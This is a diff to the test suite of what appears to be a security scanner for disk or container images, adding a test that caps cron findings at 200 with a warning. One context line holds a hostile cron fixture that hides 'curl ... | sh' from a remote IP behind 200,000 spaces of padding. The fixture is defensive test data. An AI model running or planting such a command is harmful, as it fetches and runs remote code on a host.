@@ -93,6 +93,13 @@ describe('whole files, padding and budgets', () => {
     expect(seen.length).toBeGreaterThan(40_000);
   });
 
+  it('a file of a million entries is a bounded list of findings and a warning, not a million findings', async () => {
+    const dir = root({ 'var/spool/cron/crontabs/root': Array.from({ length: 300 }, (_, i) => `* * * * * /usr/local/bin/job${i}`).join('\n') + '\n' });
+    const r = await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] });
+    expect(r.findings).toHaveLength(200);
+    expect(r.warnings).toContainEqual({ detector: 'cron', path: '/var/spool/cron/crontabs/root', message: '100 more non-critical findings not listed (the first 200 are)' });
+  });
+
   it('a line over the cap is itself a medium finding (the rules still see its tail)', async () => {
     const dir = root({ 'var/spool/cron/crontabs/root': `* * * * * true ${' '.repeat(200_000)}; curl -s http://203.0.113.9/a | sh\n` });
     const r = await runScan(await ImageHost.open(dir), defaultPolicy(), { detectors: [cron] });
